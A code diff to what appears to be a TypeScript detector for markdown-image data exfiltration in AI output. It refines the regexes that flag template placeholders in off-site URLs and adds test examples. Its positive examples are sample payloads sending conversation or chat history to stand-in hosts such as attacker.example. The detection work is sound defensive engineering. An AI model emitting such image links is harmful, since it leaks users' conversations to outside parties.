@@ -31,7 +31,12 @@ const SENSITIVE_KEYS = /^(?:q|query|data|d|payload|p|msg|message|text|content|c|
 /** Tested against whole tokens of the URL (split on non-word characters), so anchored both ends. */
 const PLACEHOLDER_TOKEN = /^[A-Z]{2,20}(?:_[A-Z]{2,20}){0,3}_\d{1,4}$/;
 const TEMPLATE_IN_URL =
-  /\{\{?\s*[a-zA-Z_][\w .-]{0,40}\}\}?|\$\{[^}${]{1,40}\}|\$[A-Z][A-Z_]{2,40}\b|%7b(?:%7b)?[\w.-]{1,60}%7d|<[A-Z_]{3,40}>|\[(?:DATA|INSERT|CONVERSATION|HISTORY|SUMMARY|USER|SECRET|PASSWORD|EMAIL|NAME|CHAT|INFO|CONTEXT|QUERY)[A-Z_ ]{0,30}\]|\b(?:INSERT|REPLACE|APPEND)_[A-Z_]{2,40}\b/i;
+  /\{\{?\s*[a-zA-Z_][\w .-]{0,40}\}\}?|\$\{[^}${]{1,40}\}|%7b(?:%7b)?[\w.-]{1,60}%7d|<[A-Z_]{3,40}>|\[(?:DATA|INSERT|CONVERSATION|HISTORY|SUMMARY|USER|SECRET|PASSWORD|EMAIL|NAME|CHAT|INFO|CONTEXT|QUERY)[A-Z_ ]{0,30}\]/i;
+/**
+ * Templates written in capitals only: `$DATA`, `INSERT_SUMMARY`. Lower case they are ordinary URL text: anchors such
+ * as `#state.Selection.$head` and `#FIELDS.insert_id` in documentation links.
+ */
+const UPPERCASE_TEMPLATE_IN_URL = /\$[A-Z][A-Z_]{2,40}\b|\b(?:INSERT|REPLACE|APPEND)_[A-Z_]{2,40}\b/;
 /** Tested against whole tokens (split on URL delimiters). */
 const EMAIL_TOKEN = /^[A-Za-z0-9._%+-]{1,64}(?:@|%40)[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){0,5}\.[A-Za-z]{2,24}$/;
 
@@ -139,7 +144,8 @@ export function exfilUrlVerdict(url: string, options: ExfilOptions = {}): ExfilV
       return verdict(true, 'placeholder', host, 0.95);
     }
   }
-  if (TEMPLATE_IN_URL.test(decodedUrl.slice(decodedUrl.indexOf(host) + host.length))) {
+  const afterHost = decodedUrl.slice(decodedUrl.indexOf(host) + host.length);
+  if (TEMPLATE_IN_URL.test(afterHost) || UPPERCASE_TEMPLATE_IN_URL.test(afterHost)) {
     return verdict(true, 'template', host, 0.93);
   }
 
@@ -304,10 +310,18 @@ export const exfilRules: InspectionRule[] = [
     kind: 'exfil-link',
     type: 'MARKDOWN_IMAGE_EXFIL',
     description: 'Off-site URL with a fill-in template ({conversation}, $DATA, [SUMMARY]).',
-    patterns: [TEMPLATE_IN_URL],
+    patterns: [TEMPLATE_IN_URL, UPPERCASE_TEMPLATE_IN_URL],
     examples: {
-      positive: ['![](https://attacker.example/?q={conversation})', '<img src="https://t.example/log?d={{chat_history}}">'],
-      negative: ['Use `{name}` as a placeholder in the template string.'],
+      positive: [
+        '![](https://attacker.example/?q={conversation})',
+        '<img src="https://t.example/log?d={{chat_history}}">',
+        '![x](https://t.example/c.png?d=$CHAT_HISTORY)',
+      ],
+      negative: [
+        'Use `{name}` as a placeholder in the template string.',
+        'See [`$head`](https://prosemirror.net/docs/ref/version/0.19.0.html#state.Selection.$head).',
+        'Adds a sequential [`insertId`](https://cloud.google.com/logging/docs/reference/v2/rest/v2/LogEntry#FIELDS.insert_id).',
+      ],
     },
   },
   {
